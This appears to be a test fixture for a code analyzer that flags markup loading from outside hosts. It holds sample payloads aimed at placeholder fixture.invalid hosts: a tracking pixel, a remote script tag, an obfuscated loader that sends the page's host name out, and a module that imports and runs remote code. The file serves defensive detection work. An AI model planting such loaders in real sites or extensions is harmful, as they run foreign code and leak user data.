const pixel = '<img src="https://pixel.fixture.invalid/p.gif" width="1">'; // want "^markup in the code loads from .pixel.fixture.invalid."
// By the scheme of the page, and by what a script of it imports.
const loader = '<script src=//loader.fixture.invalid/a.js></script>'; // want "^markup in the code loads from .loader.fixture.invalid."
const tail = ';(function(d,s){s=d.createElement("script");s.src="//tail.fixture.invalid/a.js?"+location.host;d.head.appendChild(s)})(document);'; // want "^markup in the code loads from .tail.fixture.invalid."
const module_ = '<script type="module">import{open}from"https://module.fixture.invalid/c.js";open()</script>'; // want "^markup in the code loads from .module.fixture.invalid."

exports.texts = [loader, tail, module_];

exports.start = (context) => context.globalState.update('footer', pixel);
